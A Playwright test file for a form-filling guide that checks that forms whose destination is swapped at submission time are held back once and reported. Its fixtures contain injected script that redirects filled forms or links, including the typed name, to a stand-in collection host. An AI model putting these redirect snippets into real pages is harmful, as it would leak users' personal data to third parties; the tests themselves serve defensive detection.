import type { Page } from '@playwright/test';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { FormState } from '../../../utils/takedown/fill/form-guide';
import { planTakedown } from '../../../utils/takedown/plan/plan';
import { type FormPages, launchForms, press, startGuide } from '../../harness/fill/form-pages';
import { representatives } from '../../harness/whole';
import { planInput, route } from '../../unit/takedown/match/match-samples';

/** The press on the button to send was the person's own, so a form that was exchanged just before it went out to anybody. */
let forms: FormPages;
beforeAll(async () => {
  forms = await launchForms(new URL('../../unit/takedown/fill/fill-entry.ts', import.meta.url).pathname);
});
afterAll(() => forms.close());

const session = planTakedown(planInput({ route: route('gmaps-legal'), claim: 'defamation' }));
const { origin } = new URL(session.route.url);
const stateOf = (page: Page) =>
  page.evaluate(() => (globalThis as unknown as { guideState(): FormState }).guideState());

const fields = `<p><label>氏名 <input id="a" name="a"></label></p><p><label>メールアドレス <input id="b" name="b"></label></p>`;

interface Filled {
  page: Page;
  /** Presses the button to send: a press on an element waits for a step that was held back. */
  send(): Promise<void>;
  /** Addresses that were asked for since. */
  sent(): string[];
}

/** A form that was filled without a word, and what is asked for after that. */
async function filled(html: string, act = ''): Promise<Filled> {
  const asked: string[] = [];
  const page = await forms.open(session.route.url, (url) => {
    asked.push(url);
    return url === session.route.url
      ? `<!doctype html><h1>権利侵害の申出</h1>${html}<script>${act}</script>`
      : '<p>…</p>';
  });
  await startGuide(page, session);
  await press(page, 'fill');
  expect((await stateOf(page)).stopped).toBeUndefined();
  expect(await page.inputValue('#b')).not.toBe('');
  const { x = 0, y = 0 } = (await page.locator('#go').boundingBox()) ?? {};
  return {
    page,
    send: () => page.mouse.click(x + 5, y + 5),
    sent: () => asked.filter((url) => url !== session.route.url),
  };
}
/** A busy browser never closes a page that is on its way to another: it has to be there. */
async function leave(page: Page, isStill = false): Promise<void> {
  if (!isStill) await page.waitForURL((url) => url.href !== session.route.url);
  await page.close();
}
const form = (buttons: string) => `<form id="f" method="post" action="/sent">${fields}${buttons}</form>`;
const go = '<button id="go">送信</button>';
const at = (event: string, act: string, of = 'go') => `${of}.addEventListener('${event}',()=>{${act}},{once:true})`;

it.each(
  representatives(
    [
      ['its action at the press', form(go), at('pointerdown', "f.action='https://collect.example/'")],
      [
        'the address of its button at the press',
        form(go),
        at('pointerdown', "go.formAction='https://collect.example/'"),
      ],
      ['its action as it is sent', form(go), at('submit', "f.action='https://collect.example/'", 'f')],
      [
        'its base at the press',
        form(go).replace('"/sent"', '"sent"'),
        at('pointerdown', "document.head.innerHTML='<base href=https://collect.example/>'"),
      ],
      [
        'itself for a link with what was written',
        form('<a id="go" href="#">送信</a>'),
        at('pointerdown', "go.href='https://collect.example/?n='+encodeURIComponent(a.value)"),
      ],
      [
        'itself for another of its own host',
        `${form(go)}<form id="g" method="post" action="/comments"></form>`,
        at('pointerdown', "[a,b,go].forEach((each)=>each.setAttribute('form','g'))"),
      ],
      ['its method at the press', form(go), at('pointerdown', "f.method='get'")],
    ],
    7,
  ),
)('a form that exchanges %s is held back once, and that is said', async (what, html, act) => {
  const { page, send, sent } = await filled(html, act);
  await send();
  await page.waitForTimeout(400);
  expect(sent()).toEqual([]);
  const { stopped } = await stateOf(page);
  expect(stopped?.why).toBe('exchanged');
  if (!/own host|method/.test(what)) expect(stopped?.to).toBe('collect.example');
  // Who has read that and presses again is not kept from it
  await send();
  await expect.poll(() => sent().length).toBe(1);
  await leave(page);
});

it.each(
  representatives(
    [
      ['a form that stays what it was', form(go), '', `${origin}/sent`],
      ['a form of two ways on its own host', form(go), at('click', "f.action='/confirm'"), `${origin}/confirm`],
      [
        'a form that its own script sends',
        `<form id="f">${fields}${go}</form>`,
        "f.onsubmit=(event)=>{event.preventDefault();fetch('/api')}",
        `${origin}/api`,
      ],
      [
        'a link to another site',
        `${form('')}<a id="go" href="https://example.org/privacy">方針</a>`,
        '',
        'https://example.org/privacy',
      ],
    ],
    4,
  ),
)('%s goes at the first press', async (_, html, act, address) => {
  const { page, send, sent } = await filled(html, act);
  await send();
  await expect.poll(sent).toEqual([address]);
  await leave(page, address.endsWith('/api'));
});

it('tells before the press that a form puts what is written into an address', async () => {
  const told = async (attributes: string) => {
    const page = await forms.start(session, `<h1>権利侵害の申出</h1><form ${attributes}>${fields}</form>`);
    const { isByAddress } = await stateOf(page);
    await page.close();
    return isByAddress;
  };
  expect(await told('method="get" action="/send"')).toBe(true);
  expect(await told('action="/send"')).toBe(true);
  expect(await told('method="post" action="/send"')).toBeUndefined();
  expect(await told('action="#"'), 'sent by its script').toBeUndefined();
  expect(await told(''), 'sent by its script').toBeUndefined();
});
